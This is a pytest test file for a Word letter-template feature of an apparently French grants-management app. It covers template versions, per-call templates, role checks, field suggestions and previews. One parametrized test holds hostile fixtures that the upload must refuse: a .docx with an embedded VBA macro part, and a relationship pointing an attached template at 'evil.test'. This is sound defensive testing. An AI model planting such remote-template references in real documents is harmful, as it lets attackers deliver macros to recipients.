"""Templates come in checked, version after version; a call may have its own."""

from pathlib import Path

import pytest

from parvis.documents.letter_fields import TemplateKind
from parvis.documents.word_letters import default_template
from parvis.services import word_templates
from parvis.services.file_problems import FileRefusedError
from parvis.services.previews import preview
from parvis.services.word_templates import WordTemplateProblemsError
from parvis.states.facts import By
from parvis.states.stages import Role
from parvis.states.table import MoveRefusedError
from tests.documents.test_word_templates import text, word
from tests.services.desk import Desk, moment
from tests.services.files import samples

BAD = Path(__file__).parents[1] / "data" / "bad_files"
AT = moment("2026-06-01")
KIND = TemplateKind.REFUSAL_LETTER


def keep(
    desk: Desk, content: bytes, *, name: str = "refus.docx", call: str | None = None, role: str = "secretary"
) -> int:
    with desk.database.transaction() as session:
        contract_id, call_id = word_templates.place(session, call)
        return word_templates.keep(
            session, contract_id, KIND, name, content, by=By("person:1", role), at=AT, call_id=call_id
        )


def used(desk: Desk, call: str | None = None) -> bytes:
    with desk.database.transaction() as session:
        contract_id, call_id = word_templates.place(session, call)
        return word_templates.template(session, contract_id, call_id, KIND)


def test_the_last_version_is_used_and_the_same_file_again_is_no_new_one(desk):
    first, second = word("Un {{ association.nom }}"), word("Deux {{ association.nom }}")

    assert used(desk) == default_template(KIND)
    assert [keep(desk, first), keep(desk, second), keep(desk, second)] == [1, 2, 2]
    assert used(desk) == second


def test_a_call_may_have_its_own(desk):
    for_all, for_one = word("Tous {{ association.nom }}"), word("Un {{ association.nom }}")

    keep(desk, for_all)
    keep(desk, for_one, call="annuel-2026")

    assert (used(desk), used(desk, "annuel-2026")) == (for_all, for_one)


@pytest.mark.parametrize("role", [Role.INSTRUCTOR, Role.FUNDER, Role.MEMBER, Role.APPLICANT])
def test_who_does_not_sign_changes_no_template(desk, role):
    with pytest.raises(MoveRefusedError):
        keep(desk, word("{{ association.nom }}"), role=role)


def test_an_unknown_field_is_refused_with_what_was_perhaps_meant(desk):
    with pytest.raises(WordTemplateProblemsError) as refused:
        keep(desk, word("{{ association.non }}"))

    (problem,) = refused.value.problems
    assert "association.nom" in problem.sentence.fr
    assert used(desk) == default_template(KIND)


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("xl25.docx", (BAD / "xl25_docx_remote_template.docx").read_bytes(), "file_type"),
        ("lettre.docx", samples.with_part(word("{{ association.nom }}"), "word/vbaProject.bin", "x"), "file_macro"),
        ("lettre.docx", samples.with_part(word("{{ association.nom }}"), "word/_rels/settings.xml.rels",
            "<Relationships><Relationship Id='r' Type='http://x/attachedTemplate' Target='http://evil.test/t.dotm'"
            " TargetMode='External'/></Relationships>"), "file_type"),
        ("lettre.docx", b"", "file_empty"),
        ("lettre.pdf", samples.pdf(), "file_type"),
        ("lettre.docx", samples.pdf(), "file_type"),
        ("lettre.docx", b"PK\x03\x04" + b"x" * 2_000_001, "file_too_large"),
    ],
)  # fmt: skip
def test_what_is_no_plain_word_document_is_refused(desk, name, content, code):
    with pytest.raises(FileRefusedError) as refused:
        keep(desk, content, name=name)

    assert refused.value.code == code
    assert refused.value.sentence.fr.endswith(".")


@pytest.mark.parametrize("kind", TemplateKind)
def test_a_preview_says_what_a_real_case_would_read(desk, kind):
    desk.submitted_case(title="Café des parents")

    with desk.database.transaction() as session:
        said = text(preview(session, kind, "ANNUEL-2026-00001", at=AT))

    assert "Café des parents" in said
    assert "Association Exemple" in said
    assert desk.value("SELECT count(*) FROM files") == 0
